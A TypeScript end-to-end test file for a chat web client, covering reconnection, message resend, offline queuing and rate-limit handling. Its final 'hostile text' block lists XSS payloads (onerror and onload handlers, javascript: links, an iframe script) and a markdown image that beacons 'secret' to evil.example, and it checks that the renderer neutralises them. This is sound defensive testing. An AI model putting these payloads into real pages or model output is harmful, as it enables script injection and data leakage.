import type { Browser, Page, WebSocketRoute } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Answer, ServerFrame } from '../shared/index.ts';
import { type ClientFrame, parseClientFrame } from '../shared/index.ts';
import { ORIGIN, serveState } from './gallery.ts';
import { launch } from './harness/page.ts';
import { STATES, type State } from './states.ts';

/** The page on a line that a test holds in its hand: what it sends, and what it does when frames are lost. */
let browser: Browser;
let page: Page;
let line: Line;

class Line {
  /** Addresses of the sockets, in order. */
  readonly urls: string[] = [];
  readonly received: ClientFrame[] = [];
  /** What a new socket is told; null refuses it. */
  greeting: ServerFrame | null;
  #socket: WebSocketRoute | null = null;

  constructor(greeting: ServerFrame) {
    this.greeting = greeting;
  }

  accept(socket: WebSocketRoute): void {
    this.urls.push(socket.url());
    if (this.greeting === null) return void socket.close({ code: 1011, reason: 'down' });
    this.#socket = socket;
    socket.onMessage((message) => {
      const parsed = parseClientFrame(String(message));
      if (parsed.ok) this.received.push(parsed.frame);
    });
    this.send(this.greeting);
  }

  send(frame: ServerFrame): void {
    this.#socket?.send(JSON.stringify(frame));
  }

  async cut(): Promise<void> {
    await this.#socket?.close({ code: 1011, reason: 'cut' });
  }

  get chats(): Extract<ClientFrame, { type: 'chat' }>[] {
    return this.received.filter((frame) => frame.type === 'chat');
  }
}

function state(name: string): State {
  const found = STATES.find((entry) => entry.name === name);
  if (!found) throw new Error(`no state ${name}`);
  return found;
}

function greetingOf(name: string): Extract<ServerFrame, { type: 'session' }> {
  const [frame] = state(name).frames;
  if (frame?.type !== 'session') throw new Error(`${name} does not begin with a session`);
  return frame;
}

const accepted = (seq: number, text: string, client_id: string | null): ServerFrame => ({
  type: 'message_accepted',
  seq,
  client_id,
  message: {
    id: 'u1',
    parent_id: null,
    role: 'user',
    text,
    status: 'complete',
    created_at: '2026-11-22T09:00:00.000Z',
  },
  reply_id: 'a1',
  dropped_messages: 0,
});

const box = () => page.getByRole('textbox', { name: 'Message' });
const connected = () => page.getByTitle('Connected').waitFor();
const mine = () => page.getByRole('article', { name: 'You' });

async function say(text: string): Promise<void> {
  await box().fill(text);
  await box().press('Enter');
}

beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());

beforeEach(async () => {
  const context = await browser.newContext();
  page = await context.newPage();
  page.setDefaultTimeout(15_000);
  line = new Line(greetingOf('empty'));
  await serveState(page, state('empty'));
  await page.routeWebSocket(/\/ws/, (socket) => line.accept(socket));
});
afterEach(() => page.context().close());

describe('a message', () => {
  test('C1: that nobody confirmed is sent again with the same id, and shown once', async () => {
    await page.goto(ORIGIN);
    await connected();
    await say('Is it there?');
    await expect.poll(() => line.chats.length).toBe(1);
    line.greeting = { ...greetingOf('empty'), resumed_after: 10 };
    await line.cut();
    await expect.poll(() => line.chats.length, { timeout: 10_000 }).toBe(2);
    const [first, second] = line.chats;
    expect(second?.client_id).toBe(first?.client_id);
    line.send(accepted(11, 'Is it there?', first?.client_id ?? null));
    await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
    expect(await mine().count()).toBe(1);
  });

  test('typed without a line goes out once when the line is back, even after a reload', async () => {
    await page.goto(ORIGIN);
    await connected();
    line.greeting = null;
    await line.cut();
    await say('For later');
    await page.getByText('Waits for the connection').waitFor();
    await page.reload();
    await page.getByText('NetBox').first().waitFor();
    line.greeting = greetingOf('empty');
    await connected();
    await expect.poll(() => line.chats.map((frame) => frame.message)).toEqual(['For later']);
  });

  test('written for another conversation is not put into this one', async () => {
    await page.goto(ORIGIN);
    await connected();
    line.greeting = null;
    await line.cut();
    await say('About the home network');
    await page.getByText('Waits for the connection').waitFor();
    const greeting = greetingOf('empty');
    line.greeting = { ...greeting, conversation: { ...greeting.conversation, id: 'another' } };
    await page.getByText('no longer the current one').waitFor();
    expect(line.chats).toEqual([]);
    await page.getByRole('button', { name: 'Try again' }).click();
    await expect.poll(() => line.chats.length).toBe(1);
  });

  test('that was refused can be edited, and what is being written survives a reload', async () => {
    await page.goto(ORIGIN);
    await connected();
    await say('Too early');
    await expect.poll(() => line.chats.length).toBe(1);
    const client_id = line.chats[0]?.client_id;
    line.send({
      type: 'error',
      code: 'rate_limited',
      message: 'Slow down.',
      retryable: true,
      client_id,
      retry_after_ms: 5_000,
    });
    await page.getByText('Not sent: Too many requests').waitFor();
    await page.getByRole('button', { name: 'Edit' }).click();
    expect(await box().inputValue()).toBe('Too early');
    await page.reload();
    await connected();
    expect(await box().inputValue()).toBe('Too early');
  });

  test('is not sent by the Enter that picks a word in an input method', async () => {
    await page.goto(ORIGIN);
    await connected();
    await box().fill('日本');
    await box().dispatchEvent('keydown', { key: 'Enter', isComposing: true });
    await box().press('Shift+Enter');
    expect(await box().inputValue()).toBe('日本\n');
    expect(line.chats).toEqual([]);
  });
});

describe('the line', () => {
  test('R2: comes back with the cursor; after a gap it asks for the whole truth', async () => {
    await page.goto(ORIGIN);
    await connected();
    line.greeting = { ...greetingOf('empty'), resumed_after: 10 };
    await line.cut();
    await expect.poll(() => line.urls.length, { timeout: 10_000 }).toBe(2);
    expect(line.urls.map((url) => new URL(url).search)).toEqual(['', '?conversation=c10&after=10']);
    await connected();
    line.greeting = greetingOf('conversation');
    line.send({ type: 'text_delta', seq: 15, message_id: 'a1', text: 'from nowhere' });
    await mine().first().waitFor();
    expect(new URL(line.urls.at(-1) ?? '').search).toBe('');
    expect(await page.getByText('from nowhere').count()).toBe(0);
  });

  test('4404: a session that no server knows is given up after one new attempt', async () => {
    let sockets = 0;
    await page.routeWebSocket(/\/ws/, (socket) => {
      sockets += 1;
      void socket.close({ code: 4404, reason: 'There is no such session.' });
    });
    await page.addInitScript("localStorage.setItem('chatbox.session', 'old')");
    await page.goto(ORIGIN);
    await page.getByRole('heading', { name: 'The session could not be opened' }).waitFor();
    expect(sockets).toBe(2);
  });

  test('works where storage is blocked', async () => {
    const complaints: string[] = [];
    page.on('pageerror', (error) => complaints.push(error.message));
    await page.addInitScript(
      "for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name, { get() { throw new DOMException('blocked', 'SecurityError'); } });",
    );
    await page.goto(ORIGIN);
    await connected();
    await say('Hello');
    await expect.poll(() => line.chats.length).toBe(1);
    expect(complaints).toEqual([]);
  });
});

describe('hostile text', () => {
  const ATTACKS = [
    '<img src=x onerror="window.harmed=1">',
    '<svg onload=window.harmed=1>',
    '[link](javascript:window.harmed=1)',
    '![image](https://evil.example/?q=secret)',
    '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
    '| a |\n|---|\n| <img src=x onerror=window.harmed=1> |',
    '```html\n<script>window.harmed=1</script>\n```',
    '3. three\n4. four',
    '[NetBox](https://netbox.dev/)',
  ];

  test('runs nothing, fetches nothing, and what is harmless keeps working', async () => {
    const requests: string[] = [];
    page.on('request', (request) => requests.push(new URL(request.url()).origin));
    const greeting = greetingOf('conversation');
    const messages = greeting.conversation.messages.map((message) =>
      message.role === 'assistant' ? ({ ...message, text: ATTACKS.join('\n\n') } satisfies Answer) : message,
    );
    line.greeting = { ...greeting, conversation: { ...greeting.conversation, messages } };
    await page.goto(ORIGIN);
    const answer = page.getByRole('article', { name: /^Answer from/ });
    await answer.locator('.hljs-tag').first().waitFor();
    expect(await page.evaluate("'harmed' in window")).toBe(false);
    expect(new Set(requests)).toEqual(new Set([ORIGIN]));
    expect(await answer.locator('img, svg[onload], iframe, script').count()).toBe(0);
    expect(await answer.locator('a').evaluateAll((links) => links.map((link) => link.outerHTML))).toEqual([
      '<a href="https://evil.example/?q=secret" target="_blank" rel="noopener noreferrer">Image: image</a>',
      '<a href="https://netbox.dev/" target="_blank" rel="noopener noreferrer">NetBox</a>',
    ]);
    expect(await answer.locator('ol').getAttribute('start')).toBe('3');
  });
});
